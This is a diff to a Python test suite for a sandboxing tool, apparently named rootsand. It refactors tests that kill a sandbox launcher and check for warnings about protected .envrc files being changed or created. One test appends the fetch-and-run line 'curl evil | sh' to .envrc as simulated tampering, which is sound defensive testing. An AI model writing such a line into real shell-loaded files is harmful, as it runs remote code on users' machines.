@@ -689,25 +689,32 @@ def test_a_second_sandbox_over_the_parent_plants_nothing_git_runs(tmp_path, prof
     assert not (proj / ".git" / "hooks" / "pre-commit").exists()
 
 
-def test_a_pinned_path_changed_in_place_meanwhile_is_caught_after_a_killed_launcher(tmp_path):
-    proj = tmp_path / "proj"
-    proj.mkdir()
-    (proj / ".envrc").write_text("export MINE=1\n")
-    proc = subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", "echo ready; exec sleep 600"], cwd=proj,
-                            env=env_in(proj), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+def killed_once_ready(directory, script: str, meanwhile=lambda: None) -> None:
+    """A sandbox in `directory` running `script` (which ends by saying "ready"), then `meanwhile()`, then its
+    launcher killed with SIGKILL, leaving its checks to the next command."""
+    proc = subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", f"{script}; exec sleep 600"], cwd=directory,
+                            env=env_in(directory), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
     try:
         assert proc.stdout.readline() == "ready\n"
-        # a second sandbox over the parent writes the first one's read-only .envrc in place (--unprotect: its own
-        # check of protected names at any depth would move it aside first, and this is about the first one's)
-        sandbox("sh", "-c", "echo 'curl evil | sh' >> proj/.envrc", opts=["--unprotect", ".envrc"], cwd=tmp_path,
-                env=env_in(tmp_path), check_rc=0)
+        meanwhile()
         os.kill(proc.pid, signal.SIGKILL)
         proc.wait(timeout=30)
     finally:
         if proc.poll() is None:
             proc.kill()
         proc.communicate()
+
+
+def test_a_pinned_path_changed_in_place_meanwhile_is_caught_after_a_killed_launcher(tmp_path):
+    proj = tmp_path / "proj"
+    proj.mkdir()
+    (proj / ".envrc").write_text("export MINE=1\n")
+    # a second sandbox over the parent writes the first one's read-only .envrc in place (--unprotect: its own
+    # check of protected names at any depth would move it aside first, and this is about the first one's)
+    killed_once_ready(proj, "echo ready", lambda: sandbox(
+        "sh", "-c", "echo 'curl evil | sh' >> proj/.envrc", opts=["--unprotect", ".envrc"], cwd=tmp_path,
+        env=env_in(tmp_path), check_rc=0))
     r = run(["ps"], check_rc=0)  # the next command checks what the killed launcher could not
     assert any(line.startswith(f"rootsand: warning: {proj}/.envrc was changed during the run, from outside the "
                                "sandbox, while it was read-only inside") for line in r.stderr.splitlines()), r.stderr
@@ -715,17 +722,7 @@ def test_a_pinned_path_changed_in_place_meanwhile_is_caught_after_a_killed_launc
 
 
 def test_what_a_killed_launchers_sandbox_made_at_a_protected_name_is_caught(tmp_path):
-    proc = subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", "echo evil > .envrc; echo ready; exec sleep 600"],
-                            cwd=tmp_path, env=env_in(tmp_path), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
-                            stderr=subprocess.PIPE, text=True)
-    try:
-        assert proc.stdout.readline() == "ready\n"
-        os.kill(proc.pid, signal.SIGKILL)
-        proc.wait(timeout=30)
-    finally:
-        if proc.poll() is None:
-            proc.kill()
-        proc.communicate()
+    killed_once_ready(tmp_path, "echo evil > .envrc; echo ready")
     r = run(["ps"], check_rc=0)
     assert f"rootsand: warning: {tmp_path}/.envrc was made during the run" in r.stderr
     assert [STAMP.sub("STAMP", n) for n in sorted(os.listdir(tmp_path))] == [".envrc.STAMP"]
